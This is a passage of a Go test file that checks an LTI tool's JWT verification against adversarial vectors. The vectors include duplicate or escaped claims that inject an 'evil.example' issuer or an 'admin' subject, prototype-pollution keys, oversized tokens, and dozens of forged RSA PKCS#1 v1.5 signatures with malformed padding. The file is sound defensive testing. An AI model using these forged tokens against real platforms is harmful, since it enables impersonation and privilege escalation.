		"equal names, one escaped":   func(p string) string { return p[:len(p)-1] + `,"\u0069ss":"https://evil.example"}` },
		"equal names, both empty":    func(p string) string { return p[:len(p)-1] + `,"":1,"":2}` },
		"equal names, unknown claim": func(p string) string { return p[:len(p)-1] + `,"x":1,"x":1}` },
	} {
		text(name, change)
	}
	// A JWS inside a JWS, as cty announces it.
	vectors = append(vectors, vector{name: "payload: a JWS", want: lti.ReasonTokenMalformed, header: headerWith(`"RS256"`, `,"cty":"JWT"`), payload: func(p string) string {
		inner := base64url([]byte(headerWith(`"RS256"`, ""))) + "." + base64url([]byte(p))
		return inner + "." + base64url(signRS256(platformKey, inner))
	}})
	// A second member of the name of each claim, before and behind the good one.
	for name, other := range map[string]string{
		"iss": `"https://evil.example"`, "aud": `"client-9"`, "sub": `"admin"`, "exp": `9999999999`, "iat": `1`, "nonce": `"x"`, "name": `"x"`, "email": `"x"`,
		lti.ClaimVersion: `"1.1"`, lti.ClaimMessageType: `"LtiDeepLinkingRequest"`, lti.ClaimDeploymentID: `"d2"`, lti.ClaimTargetLinkURI: `"https://evil.example/"`,
		lti.ClaimRoles: `[]`, lti.ClaimResourceLink: `{"id":"x"}`, lti.ClaimContext: `{"id":"x"}`,
	} {
		short := name[strings.LastIndexByte(name, '/')+1:]
		text("a second "+short+" in front", func(p string) string { return "{" + quoted(name) + ":" + other + "," + p[1:] })
		text("a second "+short+" behind", func(p string) string { return p[:len(p)-1] + "," + quoted(name) + ":" + other + "}" })
	}
	// What is odd and good.
	for name, change := range map[string]func(string) string{
		"32 deep":                nested(31),
		"white space everywhere": func(p string) string { return " \r\n\t" + p + " \n" },
		"escaped slashes":        func(p string) string { return strings.ReplaceAll(p, "/", `\/`) },
		"names in escapes":       func(p string) string { return strings.Replace(p, `"iss"`, `"\u0069ss"`, 1) },
		"a value in escapes":     func(p string) string { return strings.Replace(p, `"1.3.0"`, `"\u0031.3.0"`, 1) },
		"a surrogate pair":       func(p string) string { return strings.Replace(p, "Sam", `\ud83d\ude00`, 1) },
		"an escaped NUL":         func(p string) string { return strings.Replace(p, "Sam", `S\u0000m`, 1) },
		"claims in the wrong case also": func(p string) string {
			return p[:len(p)-1] + `,"ISS":"https://evil.example","Nonce":"x","AUD":"x","Exp":1}`
		},
		"prototype names": func(p string) string {
			return p[:len(p)-1] + `,"__proto__":{"iss":"x"},"constructor":{"prototype":{}},"":0}`
		},
		"large numbers": func(p string) string {
			return p[:len(p)-1] + `,"x":[9007199254740993,1e999,-0,123456789012345678901234567890]}`
		},
		"a long text":   func(p string) string { return p[:len(p)-1] + `,"x":"` + strings.Repeat("x", 30<<10) + `"}` },
		"5,000 members": func(p string) string { return p[:len(p)-1] + many(5000) + "}" },
	} {
		vectors = append(vectors, vector{name: "tolerated payload: " + name, payload: change})
	}
	return vectors
}

func nested(depth int) func(string) string {
	return func(p string) string {
		return p[:len(p)-1] + `,"x":` + strings.Repeat("[", depth) + strings.Repeat("]", depth) + "}"
	}
}

// many returns that many further members.
func many(count int) string {
	var text strings.Builder
	for i := range count {
		fmt.Fprintf(&text, `,"%d":0`, i)
	}
	return text.String()
}

// signatureVectors: J46, J47.
func signatureVectors() []vector {
	modulus := platformKey.N
	size := platformKey.Size()
	fixed := func(number *big.Int) []byte { return number.FillBytes(make([]byte, size)) }
	number := func(signature []byte) *big.Int { return new(big.Int).SetBytes(signature) }
	over := func(id crypto.Hash) func(string, []byte) []byte {
		return func(input string, _ []byte) []byte {
			digest := id.New()
			digest.Write([]byte(input))
			return must(rsa.SignPKCS1v15(rand.Reader, platformKey, id, digest.Sum(nil)))
		}
	}
	// rawPadding signs a padded block as it is, as only the holder of the key can: the checks of padding must not rely
	// on that nobody would.
	rawPadding := func(block func(digest []byte) []byte) func(string, []byte) []byte {
		return func(input string, _ []byte) []byte {
			digest := sha256.Sum256([]byte(input))
			return fixed(new(big.Int).Exp(new(big.Int).SetBytes(block(digest[:])), platformKey.D, modulus))
		}
	}
	prefix := must(hex.DecodeString("3031300d060960864801650304020105000420"))
	padded := func(kind byte, filler int, middle, tail []byte) []byte {
		block := append([]byte{0, kind}, []byte(strings.Repeat("\xff", filler))...)
		block = append(append(append(block, 0), middle...), tail...)
		return append(block, make([]byte, max(0, size-len(block)))...)[:size]
	}
	full := size - 3 - len(prefix) - sha256.Size
	changes := map[string]func(input string, signature []byte) []byte{
		"zero":                   func(string, []byte) []byte { return make([]byte, size) },
		"one":                    func(string, []byte) []byte { return fixed(big.NewInt(1)) },
		"n-1":                    func(string, []byte) []byte { return fixed(new(big.Int).Sub(modulus, big.NewInt(1))) },
		"n":                      func(string, []byte) []byte { return fixed(modulus) },
		"n-s":                    func(_ string, s []byte) []byte { return fixed(new(big.Int).Sub(modulus, number(s))) },
		"s+n":                    func(_ string, s []byte) []byte { return new(big.Int).Add(modulus, number(s)).Bytes() },
		"all 0xff":               func(string, []byte) []byte { return []byte(strings.Repeat("\xff", size)) },
		"one byte":               func(string, []byte) []byte { return []byte{1} },
		"half":                   func(_ string, s []byte) []byte { return s[:size/2] },
		"without the first byte": func(_ string, s []byte) []byte { return s[1:] },
		"without the last byte":  func(_ string, s []byte) []byte { return s[:size-1] },
		"a zero in front":        func(_ string, s []byte) []byte { return append([]byte{0}, s...) },
		"a zero behind":          func(_ string, s []byte) []byte { return append(s, 0) },
		"twice":                  func(_ string, s []byte) []byte { return append(s[:size:size], s...) },
		"1,500 bytes":            func(string, []byte) []byte { return make([]byte, 1500) },
		"reversed":               func(_ string, s []byte) []byte { slices.Reverse(s); return s },
		"of the header alone": func(input string, _ []byte) []byte {
			h, _, _ := strings.Cut(input, ".")
			return signRS256(platformKey, h)
		},
		"of the payload alone": func(input string, _ []byte) []byte {
			_, p, _ := strings.Cut(input, ".")
			return signRS256(platformKey, p)
		},
		"of nothing":         func(string, []byte) []byte { return signRS256(platformKey, "") },
		"of header.payload.": func(input string, _ []byte) []byte { return signRS256(platformKey, input+".") },
		"of the decoded payload": func(input string, _ []byte) []byte {
			_, p, _ := strings.Cut(input, ".")
			return signRS256(platformKey, string(must(segmentEncoding.DecodeString(p))))
		},
		"of another token": func(string, []byte) []byte {
			return signRS256(platformKey, base64url([]byte(headerWith(`"RS256"`, "")))+"."+base64url([]byte("{}")))
		},
		"by the attacker":   func(input string, _ []byte) []byte { return signRS256(attackerKey, input) },
		"over SHA-384":      over(crypto.SHA384),
		"over SHA-512":      over(crypto.SHA512),
		"over SHA-224":      over(crypto.SHA224),
		"over SHA-1":        over(crypto.SHA1),
		"over MD5":          over(crypto.MD5),
		"the digest itself": func(input string, _ []byte) []byte { d := sha256.Sum256([]byte(input)); return d[:] },
		"the padded block itself": func(input string, _ []byte) []byte {
			d := sha256.Sum256([]byte(input))
			return padded(1, full, prefix, d[:])
		},
		"a digest without its name": func(input string, _ []byte) []byte {
			d := sha256.Sum256([]byte(input))
			return must(rsa.SignPKCS1v15(rand.Reader, platformKey, 0, d[:]))
		},
		"padding too short, digest in front (2006)": rawPadding(func(d []byte) []byte { return padded(1, 8, prefix, d) }),
		"padding of one byte":                       rawPadding(func(d []byte) []byte { return padded(1, 1, prefix, d) }),
		"padding of none":                           rawPadding(func(d []byte) []byte { return padded(1, 0, prefix, d) }),
		"padding of type 2":                         rawPadding(func(d []byte) []byte { return padded(2, full, prefix, d) }),
		"padding of type 0":                         rawPadding(func(d []byte) []byte { return padded(0, full, prefix, d) }),
		"padding with a zero inside": rawPadding(func(d []byte) []byte {
			block := padded(1, full, prefix, d)
			block[20] = 0
			return block
		}),
		"padding with another filler": rawPadding(func(d []byte) []byte {
			block := padded(1, full, prefix, d)
			block[20] = 0xfe
			return block
		}),
		"no zero between": rawPadding(func(d []byte) []byte {
			block := padded(1, full, prefix, d)
			block[2+full] = 0xff
			return block
		}),
		"a digest name without NULL": rawPadding(func(d []byte) []byte {
			return padded(1, full+2, must(hex.DecodeString("302f300b0609608648016503040201"+"0420")), d)
		}),
		"a digest name in BER": rawPadding(func(d []byte) []byte {
			return padded(1, full-1, must(hex.DecodeString("308131300d060960864801650304020105000420")), d)
		}),
		"a digest name of SHA-1": rawPadding(func(d []byte) []byte {
			return padded(1, full+4, must(hex.DecodeString("3021300906052b0e03021a05000414")), d)
		}),
		"garbage in the digest's parameters": rawPadding(func(d []byte) []byte {
			return padded(1, full-8, must(hex.DecodeString("3039301506096086480165030402010508"+"4141414141414141"+"0420")), d)
		}),
	}
	for _, bit := range []int{0, 1, 7, 8, 100, 511, 1023, 1024, 1500, 2040, 2046, 2047} {
		changes[fmt.Sprintf("bit %d flipped", bit)] = func(_ string, s []byte) []byte {
			s[bit/8] ^= 1 << (bit % 8)
			return s
		}
	}
	var vectors []vector
	for name, change := range changes {
		vectors = append(vectors, vector{name: "signature: " + name, want: lti.ReasonSignatureInvalid, token: replaceSignature(change)})
	}
	for name, change := range map[string]func(h, p string) (string, string){
		"header spelled otherwise": func(_, p string) (string, string) {
			return base64url([]byte(`{"alg":"RS256","typ":"JWT","kid":"k1"}`)), p
		},
		"header with a blank": func(_, p string) (string, string) { return base64url([]byte(headerWith(`"RS256"`, " "))), p },
		"payload with a blank": func(h, p string) (string, string) {
			return h, base64url(append(must(segmentEncoding.DecodeString(p)), ' '))
		},
		"another subject":    altered("user-1", "user-2"),
		"another role":       altered("membership#Learner", "membership#Instructor"),
		"another deployment": altered(`"d1"`, `"d2"`),
		"another target":     altered("quiz/7", "quiz/8"),
		"another name":       altered("Sam", "Pat"),
		"another context":    altered("course-1", "course-2"),
	} {
		vectors = append(vectors, vector{name: "altered after signing: " + name, want: lti.ReasonSignatureInvalid, token: func(token string) string {
			parts := strings.Split(token, ".")
			h, p := change(parts[0], parts[1])
			return h + "." + p + "." + parts[2]
		}})
	}
	return vectors
}

func altered(from, to string) func(h, p string) (string, string) {
	return func(h, p string) (string, string) {
		text := string(must(segmentEncoding.DecodeString(p)))
		if !strings.Contains(text, from) {
			panic("attack: there is no " + from)
		}
		return h, base64url([]byte(strings.Replace(text, from, to, 1)))
	}
}

// sizeVectors: J44.
func sizeVectors() []vector {
	fill := func(size int) func(string) string {
		return func(token string) string { return token + strings.Repeat("A", max(0, size-len(token))) }
	}
	return []vector{
		{name: "64 KiB of signature", want: lti.ReasonTokenMalformed, token: fill(64 << 10)},
		{name: "64 KiB and one byte", want: lti.ReasonTokenTooLarge, token: fill(64<<10 + 1)},
		{name: "128 KiB", want: lti.ReasonTokenTooLarge, token: fill(128 << 10)},
		{name: "a request of 200 KiB", want: lti.ReasonParameterTooLong, token: fill(200 << 10)},
		{name: "a payload of 70 KiB", want: lti.ReasonTokenTooLarge, payload: func(p string) string { return p + strings.Repeat(" ", 70<<10) }},
		{name: "a good launch of 60 KiB", payload: func(p string) string { return p + strings.Repeat(" ", 44<<10) }},
	}
}

func TestHeaderAndSignature(t *testing.T) {
	s := newStack(t, 1)
	var all []vector
	for _, vectors := range [][]vector{
		algorithmVectors(), curveVectors(), keyNameVectors(), memberVectors(), formVectors(), payloadVectors(), signatureVectors(), sizeVectors(),
	} {
		all = append(all, vectors...)
	}
	for i := range all {
		all[i].family = "J"
	}
	s.runAll(t, all)
}
